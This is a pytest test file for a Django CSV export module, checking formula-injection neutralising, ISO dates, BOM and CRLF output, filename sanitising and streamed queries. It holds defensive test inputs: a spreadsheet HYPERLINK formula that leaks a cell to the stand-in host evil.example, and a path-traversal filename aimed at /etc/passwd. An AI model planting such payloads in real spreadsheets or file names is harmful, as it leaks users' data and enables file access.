"""The shared CSV export module: cell formats, Excel's expectations, formula injection and streaming."""

import codecs
import csv
import datetime
import decimal
import io
import itertools

import pytest
from django.db.models import QuerySet
from django.http import StreamingHttpResponse

from leaderdev import exports
from leaderdev.exports import Column, csv_rows, export_response, format_cell, neutralise, stream_csv
from leaderdev.models import Person, Position
from tests.factories import NetworkFactory, PersonFactory, SchoolFactory

NAMES = [Column("Employee ID", "employee_id"), Column("Last name", "last_name")]


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def parse(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))


def cells(queryset, *columns) -> list[list[str]]:
    return list(csv_rows(queryset, columns))


# --- neutralise --------------------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_neutralise_quotes_a_cell_starting_with_a_formula_trigger(trigger):
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("text", ["Smith", "O'Brien", "José", "a=b", "2026-09-01", "3", ""])
def test_neutralise_leaves_safe_text_alone(text):
    assert neutralise(text) == text


def test_neutralise_treats_text_that_looks_negative_as_text():
    assert neutralise("-3") == "'-3"


def test_numbers_from_the_database_are_written_as_numbers():
    assert (format_cell(-3), format_cell(decimal.Decimal("-2.50")), format_cell(-0.5)) == (
        "-3",
        "-2.50",
        "-0.5",
    )


def test_decimals_are_never_written_in_scientific_notation():
    assert format_cell(decimal.Decimal("1E+2")) == "100"


# --- cells in the file -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_formula_in_a_name_arrives_as_quoted_text():
    PersonFactory(employee_id="E1", last_name='=HYPERLINK("https://evil.example/?"&A2,"Open")')
    response = export_response(Person.objects.all(), NAMES, "people")
    assert parse(response)[1] == ["E1", '\'=HYPERLINK("https://evil.example/?"&A2,"Open")']


def test_headers_are_neutralised_too():
    response = stream_csv("x", ["=SUM(A1)"], [])
    assert parse(response) == [["'=SUM(A1)"]]


@pytest.mark.django_db
def test_dates_are_iso():
    PersonFactory(role_start_date=datetime.date(2026, 7, 1))
    assert cells(Person.objects.all(), Column("Start", "role_start_date")) == [["2026-07-01"]]


@pytest.mark.django_db
def test_datetimes_are_iso_in_the_districts_zone(settings):
    settings.TIME_ZONE = "America/New_York"
    person = PersonFactory()
    Person.objects.filter(pk=person.pk).update(
        created_at=datetime.datetime(2026, 9, 1, 12, 30, 15, 123456, tzinfo=datetime.UTC)
    )
    assert cells(Person.objects.all(), Column("Added", "created_at")) == [["2026-09-01T08:30:15-04:00"]]


@pytest.mark.django_db
def test_a_missing_value_is_an_empty_cell():
    PersonFactory(position=Position.CENTRAL_OFFICE, school=None)
    assert cells(Person.objects.all(), Column("School", "school__name")) == [[""]]


@pytest.mark.django_db
def test_booleans_are_yes_or_no():
    PersonFactory(last_name="A", is_active=True)
    PersonFactory(last_name="B", is_active=False)
    assert cells(Person.objects.all(), Column("Active", "is_active")) == [["yes"], ["no"]]


@pytest.mark.django_db
def test_choices_are_written_as_their_labels():
    PersonFactory(position=Position.ASSISTANT_PRINCIPAL)
    column = Column("Position", "position", choices=Position)
    assert cells(Person.objects.all(), column) == [["Assistant principal"]]


@pytest.mark.django_db
def test_a_value_without_a_label_is_written_as_stored():
    PersonFactory()
    column = Column("Code", value=lambda row: "retired_code", choices=Position)
    assert cells(Person.objects.all(), column) == [["retired_code"]]


@pytest.mark.django_db
def test_a_computed_column_reads_the_fields_it_uses():
    PersonFactory(first_name="Ana", last_name="Lima")
    column = Column("Name", value=lambda row: f"{row['first_name']} {row['last_name']}", uses=["first_name"])
    assert cells(Person.objects.all(), column, Column("Last", "last_name")) == [["Ana Lima", "Lima"]]


def test_a_column_needs_exactly_one_of_field_and_value():
    with pytest.raises(ValueError, match="exactly one"):
        Column("Nothing")
    with pytest.raises(ValueError, match="exactly one"):
        Column("Both", "last_name", value=lambda row: 1)


# --- the file ----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_file_parses_back_to_exactly_the_rows():
    school = SchoolFactory(name='Hale, "Upper" School', network=NetworkFactory(name="Network A"))
    PersonFactory(employee_id="E2", last_name="Zamora", school=school, is_active=False)
    PersonFactory(employee_id="E1", last_name="Adams", position=Position.CENTRAL_OFFICE, school=None)
    columns = [
        *NAMES,
        Column("School", "school__name"),
        Column("Network", "school__network__name"),
        Column("Active", "is_active"),
    ]
    response = export_response(Person.objects.order_by("last_name"), columns, "people")
    assert parse(response) == [
        ["Employee ID", "Last name", "School", "Network", "Active"],
        ["E1", "Adams", "", "", "yes"],
        ["E2", "Zamora", 'Hale, "Upper" School', "Network A", "no"],
    ]


def test_the_file_starts_with_a_utf8_bom():
    response = stream_csv("x", ["Name"], [["José"]])
    content = body(response)
    assert content[:3] == codecs.BOM_UTF8
    assert content[3:].decode("utf-8") == "Name\r\nJosé\r\n"


def test_lines_end_with_crlf_and_awkward_cells_are_quoted():
    content = body(stream_csv("x", ["A", "B"], [["one, two", "line\nbreak"]]))
    assert content.decode("utf-8-sig") == 'A,B\r\n"one, two","line\nbreak"\r\n'


@pytest.mark.django_db
def test_rows_keep_the_callers_order():
    for employee_id in ["E1", "E3", "E2"]:
        PersonFactory(employee_id=employee_id)
    rows = cells(Person.objects.order_by("-employee_id"), Column("ID", "employee_id"))
    assert rows == [["E3"], ["E2"], ["E1"]]


@pytest.mark.django_db
def test_an_unordered_queryset_comes_out_in_primary_key_order():
    first, second = PersonFactory(last_name="Zed"), PersonFactory(last_name="Abe")
    rows = cells(Person.objects.order_by(), Column("ID", "employee_id"))
    assert rows == [[first.employee_id], [second.employee_id]]


# --- the response ------------------------------------------------------------------------------------


def test_the_response_is_a_streamed_csv_download():
    response = stream_csv("Roster: New Leader PD 2026/2027", ["A"], [])
    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming is True
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="roster-new-leader-pd-2026-2027.csv"'


def test_the_response_may_not_be_cached():
    response = stream_csv("x", ["A"], [])
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]


@pytest.mark.parametrize(
    ("name", "filename"),
    [
        ("Roster: New Leader PD 2026/2027", "roster-new-leader-pd-2026-2027.csv"),
        ("people.CSV", "people.csv"),
        ('../../etc/passwd"; x=.exe', "etc-passwd-x-exe.csv"),
        ("Équité été", "equite-ete.csv"),
        ("!!!", "export.csv"),
        ("x" * 300, "x" * 100 + ".csv"),
    ],
)
def test_the_filename_is_sanitised(name, filename):
    assert exports.export_filename(name) == filename


# --- streaming ---------------------------------------------------------------------------------------


def test_rows_are_written_as_they_are_produced():
    endless = ([str(n)] for n in itertools.count())
    first = next(iter(stream_csv("x", ["n"], endless).streaming_content))
    assert first.startswith(codecs.BOM_UTF8 + b"n\r\n0\r\n1\r\n")


@pytest.mark.django_db
def test_a_large_export_comes_in_many_bounded_pieces(monkeypatch):
    monkeypatch.setattr(exports, "STREAM_BUFFER_CHARS", 256)
    PersonFactory.create_batch(300, school=SchoolFactory())
    pieces = list(export_response(Person.objects.all(), NAMES, "people").streaming_content)
    assert len(pieces) > 10
    assert max(len(piece) for piece in pieces) < 256 + 100  # one buffer plus at most one line


@pytest.mark.django_db
def test_the_response_reads_nothing_until_it_is_consumed(django_assert_num_queries):
    PersonFactory.create_batch(3)
    with django_assert_num_queries(0):
        response = export_response(Person.objects.all(), NAMES, "people")
    with django_assert_num_queries(1):
        body(response)


@pytest.mark.django_db
@pytest.mark.parametrize("size", [3, 300])
def test_an_export_is_one_query_whatever_its_size(size, django_assert_num_queries):
    schools = SchoolFactory.create_batch(3)
    for n in range(size):
        PersonFactory(school=schools[n % 3])
    columns = [*NAMES, Column("School", "school__name"), Column("Network", "school__network__name")]
    queryset = Person.objects.select_related("school__network", "user").prefetch_related("user__groups")
    with django_assert_num_queries(1):
        rows = parse(export_response(queryset, columns, "people"))
    assert len(rows) == size + 1


@pytest.mark.django_db
def test_rows_are_read_through_a_chunked_iterator(monkeypatch):
    PersonFactory.create_batch(3)
    chunk_sizes = []
    real_iterator = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunk_sizes.append(chunk_size)
        return real_iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    assert len(list(csv_rows(Person.objects.all(), NAMES, chunk_size=50))) == 3
    assert chunk_sizes == [50]
